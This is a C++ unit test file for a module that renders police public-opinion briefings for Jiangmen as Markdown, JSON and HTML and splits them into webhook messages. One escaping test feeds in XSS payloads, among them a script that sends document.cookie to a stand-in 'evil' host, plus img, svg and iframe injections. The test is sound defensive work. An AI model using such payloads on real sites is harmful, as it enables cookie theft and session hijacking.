// The briefings (briefing/): periods, the model's arrows and 新 marks, the renderings
// compared in full with golden files (YUQING_UPDATE_EXPECTED=1 writes them), HTML escaping
// of a hostile message, and the webhook parts within each receiver's limit.
#include <nlohmann/json.hpp>

#include <catch2/catch.hpp>
#include <cstdlib>
#include <fstream>
#include <sstream>

#include "briefing/briefing.h"

using namespace yuqing::briefing;

namespace {

constexpr int off = 480;
// 2022-11-21 00:00 +08:00
constexpr int64_t day0 = 1668960000000;
constexpr int64_t hour = 3600000;

std::string data_path(const std::string& name) { return std::string(YUQING_SOURCE_DIR) + "/tests/unit/data/" + name; }

std::string read(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  std::stringstream s;
  s << in.rdbuf();
  return s.str();
}

// Compares with the golden file, or writes it when YUQING_UPDATE_EXPECTED is set.
void golden(const std::string& name, const std::string& got) {
  const auto path = data_path(name);
  if (std::getenv("YUQING_UPDATE_EXPECTED")) {
    std::ofstream(path, std::ios::binary) << got;
    WARN("wrote " << path);
    return;
  }
  const auto want = read(path);
  INFO("golden file " << path << " (YUQING_UPDATE_EXPECTED=1 rewrites it)");
  REQUIRE(!want.empty());
  CHECK(got == want);
}

topic_figures topic(const std::string& id, const std::string& name, double index, const std::string& level,
                    int64_t peak_ms, uint64_t messages) {
  topic_figures t;
  t.topic = id;
  t.name = name;
  t.index = index;
  t.level = level;
  t.peak_ms = peak_ms;
  t.end_index = index / 2;
  t.messages = messages;
  t.hits = messages + messages / 3;
  // Parts that add up to the index (weights 20/30/20/15, no lexicon).
  t.parts = {{"声量", index * 0.3, true}, {"增长", index * 0.45, true}, {"扩散", index * 0.25, true},
             {"负面占比", 0, false}, {"信箱压力", 0, true}};
  return t;
}

// A fixed day: 2022-11-21 in Jiangmen, compared with the 20th.
input fixed_input() {
  input in;
  in.p = period_of(period_kind::daily, day0 + 10 * hour, off);
  in.generated_ms = day0 + 24 * hour + 8 * hour;  // the next morning, 08:00
  auto& now = in.now;
  now.messages = 1268;
  now.hit_messages = 214;
  now.hits = 301;
  now.alerts = {{"red", 0}, {"orange", 2}, {"yellow", 5}, {"blue", 1}};
  now.messages_by_slot = {12, 8, 5, 3, 2, 4, 11, 35, 62, 88, 97, 84, 70, 66, 93, 128, 104, 79, 61, 55, 48, 52, 33, 27};
  now.topics = {topic("epidemic", "疫情防控信息发布", 77.2, "high", day0 + 15 * hour, 96),
                topic("hukou", "户籍迁移政策", 41.5, "medium", day0 + 10 * hour, 38),
                topic("schooling", "入学政策咨询", 22.4, "low", day0 + 9 * hour, 51),
                topic("tax", "税费政策", 12.0, "low", day0 + 14 * hour, 29)};
  now.regions = {{"台山市", 64.8, "epidemic", 41}, {"蓬江区", 58.1, "epidemic", 66}, {"新会区", 30.2, "hukou", 22},
                 {"开平市", 12.5, "tax", 9}, {"恩平市", 35.0, "hukou", 14}};
  now.clusters = {
      {"text/c1", "same_text", "epidemic", "台山市某小区封控三天了，物资一直送不进来，老人药都断了，请有关部门尽快处理！", 37,
       day0 + 8 * hour, day0 + 16 * hour},
      {"text/c2", "mailbox", "hukou", "咨询：在江门工作满一年，社保连续缴纳，能否办理户口迁入？需要哪些材料？", 14,
       day0 + 9 * hour, day0 + 18 * hour},
      {"text/c3", "same_text", "schooling", "蓬江区学位房划片调整<script>alert('x')</script>，家长聚集到教育局门口 & 讨要说法", 9,
       day0 + 7 * hour, day0 + 12 * hour}};
  auto& mb = now.mailbox;
  mb.present = true;
  mb.received = 46;
  mb.on_time = 31;
  mb.late = 3;
  mb.open = 10;
  mb.overdue = 2;
  mb.median_reply_hours = 20.5;
  mb.units = {{"治安支队", 18, 13, 1, 3, 1}, {"出入境管理支队", 12, 9, 0, 3, 0}, {"交警支队", 16, 9, 2, 4, 1}};
  mb.issues = {{"text/c2", "text", "咨询：在江门工作满一年，社保连续缴纳，能否办理户口迁入？", 14, 3},
               {"topic/hukou", "topic", "hukou", 12, 4},
               {"category/投诉", "category", "投诉", 6, 5}};
  now.rules = {{"epidemic-info", "outbreak", 120, 40, 28, 12},
               {"schooling", "gathering", 30, 12, 5, 7},
               {"tax", "fees", 20, 6, 6, 0}};

  auto& prev = in.previous;
  prev.messages = 1104;
  prev.hit_messages = 190;
  prev.hits = 260;
  prev.alerts = {{"orange", 1}, {"yellow", 3}};
  prev.topics = {topic("epidemic", "疫情防控信息发布", 52.0, "medium", day0 - 8 * hour, 70),
                 topic("schooling", "入学政策咨询", 35.1, "medium", day0 - 10 * hour, 60),
                 topic("tax", "税费政策", 10.5, "low", day0 - 12 * hour, 25)};
  prev.regions = {{"台山市", 40.0, "epidemic", 25}, {"蓬江区", 55.0, "schooling", 60}, {"新会区", 30.2, "tax", 20},
                  {"开平市", 15.0, "tax", 11}};
  prev.clusters = {{"text/c3", "same_text", "schooling", "蓬江区学位房划片调整", 4, day0 - 20 * hour, day0 - 18 * hour}};
  prev.mailbox.present = true;
  prev.mailbox.received = 39;
  prev.mailbox.on_time = 30;
  prev.mailbox.overdue = 1;
  return in;
}

}  // namespace

TEST_CASE("briefing: periods are local days and Monday-to-Sunday weeks", "[briefing]") {
  const auto d = period_of(period_kind::daily, day0 + 23 * hour + 59 * 60000, off);
  CHECK(d.from_ms == day0);
  CHECK(d.to_ms == day0 + 24 * hour);
  CHECK(d.id() == "daily-2022-11-21");
  CHECK(d.label() == "2022年11月21日");
  CHECK(d.previous().id() == "daily-2022-11-20");
  // 2022-11-21 was a Monday; the Sunday after belongs to its week, the Sunday before not.
  const auto w = period_of(period_kind::weekly, day0 + 6 * 24 * hour + 23 * hour, off);
  CHECK(w.id() == "weekly-2022-11-21");
  CHECK(w.to_ms - w.from_ms == 7 * 24 * hour);
  CHECK(w.label() == "2022年11月21日—11月27日");
  CHECK(period_of(period_kind::weekly, day0 - 1, off).id() == "weekly-2022-11-14");
  // The same instant is another local day in another offset.
  CHECK(period_of(period_kind::daily, day0 - 1, 0).id() == "daily-2022-11-20");
  auto parsed = parse_period("weekly", "2022-11-24", off);
  REQUIRE(parsed);
  CHECK(*parsed == w);
  CHECK_FALSE(parse_period("monthly", "2022-11-24", off));
  CHECK_FALSE(parse_period("daily", "2022-02-30", off));
  CHECK_FALSE(parse_period("daily", "2022-11-2", off));
  CHECK_FALSE(parse_period("daily", "yesterday", off));
}

TEST_CASE("briefing: arrows against the previous period and 新 for new topics, clusters and regions", "[briefing]") {
  const auto b = build(fixed_input());
  REQUIRE(b.topics.size() == 4);
  CHECK(b.topics[0].now.topic == "epidemic");
  CHECK(b.topics[0].t == trend::up);  // 52.0 -> 77.2
  CHECK(b.topics[1].now.topic == "hukou");
  CHECK(b.topics[1].t == trend::fresh);
  CHECK_FALSE(b.topics[1].previous);
  CHECK(b.topics[2].now.topic == "schooling");
  CHECK(b.topics[2].t == trend::down);  // 35.1 -> 22.4
  CHECK(b.topics[3].t == trend::flat);  // 10.5 -> 12.0, within 5 points
  CHECK(b.new_topics == std::vector<std::string>{"户籍迁移政策"});
  CHECK(std::string(arrow(trend::fresh)) == "新");
  CHECK(std::string(level_chinese("very_high")) == "极高");

  REQUIRE(b.clusters.size() == 3);
  CHECK(b.clusters[0].c.id == "text/c1");
  CHECK(b.clusters[0].fresh);
  CHECK(b.clusters[2].c.id == "text/c3");
  CHECK_FALSE(b.clusters[2].fresh);  // there the day before

  // Regions that rose: 台山 +24.8, 恩平 (new) 35, 蓬江 +3.1; 新会 level, 开平 fell.
  REQUIRE(b.regions.size() == 3);
  CHECK(b.regions[0].now.region == "恩平市");
  CHECK_FALSE(b.regions[0].previous);
  CHECK(b.regions[1].now.region == "台山市");
  CHECK(b.regions[2].now.region == "蓬江区");

  // 二次解读 from 10 messages on; the rule without false hits is left out.
  REQUIRE(b.issues.size() == 3);
  CHECK(b.issues[0].reinterpret);
  CHECK(b.issues[1].reinterpret);
  CHECK_FALSE(b.issues[2].reinterpret);
  REQUIRE(b.rules.size() == 2);
  CHECK(b.rules[0].r.rule == "outbreak");

  const auto md = to_markdown(b);
  CHECK(md.find("| 户籍迁移政策 | 41.5 | 中 | 新 |") != std::string::npos);
  CHECK(md.find("| 疫情防控信息发布 | 77.2 | 高 | ↑ | +25.2 |") != std::string::npos);
  CHECK(md.find("| 入学政策咨询 | 22.4 | 低 | ↓ | -12.7 |") != std::string::npos);
  CHECK(md.find("1. 【新】同文多发") != std::string::npos);
  CHECK(md.find("**建议二次解读**") != std::string::npos);
}

TEST_CASE("briefing: the daily briefing of a fixed input renders as the golden files", "[briefing]") {
  const auto b = build(fixed_input());
  golden("briefing-daily-expected.md", to_markdown(b));
  golden("briefing-daily-expected.json", to_json(b));
  golden("briefing-daily-expected.html", to_html(b));
  // The JSON parses and keeps the arrows.
  const auto j = nlohmann::json::parse(to_json(b));
  CHECK(j["id"] == "daily-2022-11-21");
  CHECK(j["from"] == "2022-11-21T00:00:00+08:00");
  CHECK(j["topics"][1]["trend"] == "新");
  CHECK(j["topics"][1]["new"] == true);
}

TEST_CASE("briefing: the HTML escapes every text from a message and loads nothing from outside", "[briefing]") {
  auto in = fixed_input();
  const std::string hostile = "<img src=x onerror=alert(1)><script>fetch('http://evil/'+document.cookie)</script>\"'&";
  in.now.clusters[0].text = hostile;
  in.now.mailbox.issues[0].what = "</li><iframe src=\"http://evil\"></iframe>";
  in.now.mailbox.units[0].unit = "<b>治安</b>";
  in.now.topics[0].name = "疫情<svg onload=alert(1)>";
  in.now.regions[0].region = "台山<script>";
  in.now.clusters[1].text = std::string("bad \xff\xfe utf-8 \xe6\xb1");  // invalid bytes
  const auto html = to_html(build(in));
  CHECK(html.find("<script") == std::string::npos);
  CHECK(html.find("<img") == std::string::npos);
  CHECK(html.find("<iframe") == std::string::npos);
  CHECK(html.find("<svg onload") == std::string::npos);
  CHECK(html.find("<b>治安") == std::string::npos);
  CHECK(html.find("&lt;script&gt;fetch(&#39;http://evil/&#39;+document.cookie)&lt;/script&gt;&quot;&#39;&amp;") !=
        std::string::npos);
  CHECK(html.find("&lt;/li&gt;&lt;iframe src=&quot;http://evil&quot;&gt;") != std::string::npos);
  // Self-contained: no external resource, no script, printable to A4.
  CHECK(html.find("src=\"") == std::string::npos);
  CHECK(html.find("href=") == std::string::npos);
  CHECK(html.find("url(") == std::string::npos);
  CHECK(html.find("@import") == std::string::npos);
  CHECK(html.find("@page { size: A4") != std::string::npos);
  CHECK(html.find("<svg xmlns=\"http://www.w3.org/2000/svg\"") != std::string::npos);
  CHECK(valid_utf8(html) == html);
  CHECK(html.find("bad \xef\xbf\xbd\xef\xbf\xbd utf-8 \xef\xbf\xbd") != std::string::npos);
  // Markdown: the hostile text cannot open markup either (backslash escapes).
  const auto md = to_markdown(build(in));
  CHECK(md.find("\\<script\\>") != std::string::npos);
}

TEST_CASE("briefing: webhook parts stay within each receiver's limit and give the Markdown back", "[briefing]") {
  // A briefing big enough for several parts even on 飞书: 400 clusters of long texts.
  auto in = fixed_input();
  in.opts.top_clusters = 400;
  for (int i = 0; i < 400; ++i) {
    std::string text;
    for (int k = 0; k < 6; ++k) text += "第" + std::to_string(i) + "条：台山市某小区封控，群众反映物资配送不及时，请求协调解决。";
    in.now.clusters.push_back({"bulk/" + std::to_string(i), i % 2 ? "mailbox" : "same_text", "epidemic", text,
                               static_cast<uint64_t>(500 - i), day0 + hour, day0 + 2 * hour});
  }
  // and one line longer than a WeCom message on its own (cut inside, on a character boundary)
  std::string long_issue;
  for (int k = 0; k < 800; ++k) long_issue += "超长";
  in.now.mailbox.issues.push_back({"text/long", "text", long_issue, 3, 0});
  const auto b = build(in);
  const auto md = to_markdown(b);
  REQUIRE(md.size() > 2 * byte_limit(receiver_kind::feishu));

  for (auto k : {receiver_kind::wecom, receiver_kind::dingtalk, receiver_kind::feishu}) {
    INFO(to_string(k));
    const auto parts = split(md, byte_limit(k));
    REQUIRE(parts.size() > 1);
    std::string joined;
    for (size_t i = 0; i < parts.size(); ++i) {
      CHECK(parts[i].size() <= byte_limit(k));
      CHECK(valid_utf8(parts[i]) == parts[i]);  // never cut inside a character
      const auto head = part_header(i + 1, parts.size());
      REQUIRE(parts[i].rfind(head, 0) == 0);
      joined += parts[i].substr(head.size());
    }
    CHECK(joined == md);

    const auto bodies = webhook_bodies(k, b.title, md, to_json(b));
    REQUIRE(bodies.size() > 1);
    std::string again;
    for (size_t i = 0; i < bodies.size(); ++i) {
      const auto j = nlohmann::json::parse(bodies[i]);
      std::string text;
      if (k == receiver_kind::wecom) {
        CHECK(j["msgtype"] == "markdown");
        text = j["markdown"]["content"];
        CHECK(text.size() <= 4096);
      } else if (k == receiver_kind::dingtalk) {
        CHECK(j["msgtype"] == "markdown");
        CHECK(j["markdown"]["title"].get<std::string>().find("舆情日报") != std::string::npos);
        text = j["markdown"]["text"];
        CHECK(text.size() <= 20000);
      } else {
        CHECK(j["msg_type"] == "post");
        CHECK(bodies[i].size() <= 30000);  // the whole body
        for (const auto& para : j["content"]["post"]["zh_cn"]["content"]) text += para[0]["text"].get<std::string>() + "\n";
      }
      const auto head = part_header(i + 1, bodies.size());
      REQUIRE(text.rfind(head, 0) == 0);
      again += text.substr(head.size());
    }
    if (k != receiver_kind::feishu) CHECK(again == md);
  }
  // A section that fits in a part starts a part of its own rather than being cut.
  const auto wecom = split(md, 4096);
  bool some_part_starts_at_heading = false;
  for (size_t i = 1; i < wecom.size(); ++i)
    some_part_starts_at_heading |= wecom[i].substr(part_header(i + 1, wecom.size()).size(), 3) == "## ";
  CHECK(some_part_starts_at_heading);
  // generic: the JSON whole.
  CHECK(webhook_bodies(receiver_kind::generic, b.title, md, to_json(b)) == std::vector<std::string>{to_json(b)});
  // A small briefing is one part, not numbered.
  const auto small = to_markdown(build(fixed_input()));
  CHECK(split(small, 20000) == std::vector<std::string>{small});
}

TEST_CASE("briefing: a weekly briefing compares with the week before and charts messages per day", "[briefing]") {
  auto in = fixed_input();
  in.p = period_of(period_kind::weekly, day0 + 3 * 24 * hour, off);
  in.now.messages_by_slot = {300, 280, 310, 150, 120, 60, 48};
  const auto b = build(in);
  CHECK(b.id == "weekly-2022-11-21");
  CHECK(b.title == "江门市公安局舆情周报（2022年11月21日—11月27日）");
  const auto md = to_markdown(b);
  CHECK(md.find("| 项目 | 本周 | 上周 |") != std::string::npos);
  CHECK(md.find("本周共监测信息 1268 条（较上周 +14.9%）") != std::string::npos);
  // clusters spanning days show their dates
  CHECK(md.find("37 条（2022-11-21 08:00 至 2022-11-21 16:00）") != std::string::npos);
  const auto html = to_html(b);
  CHECK(html.find("<title>每日信息量</title>") != std::string::npos);
  CHECK(html.find(">周日</text>") != std::string::npos);
  const auto j = nlohmann::json::parse(to_json(b));
  CHECK(j["kind"] == "weekly");
  CHECK(j["messages_by_slot"]["slot"] == "day");
  CHECK(j["to"] == "2022-11-28T00:00:00+08:00");
}
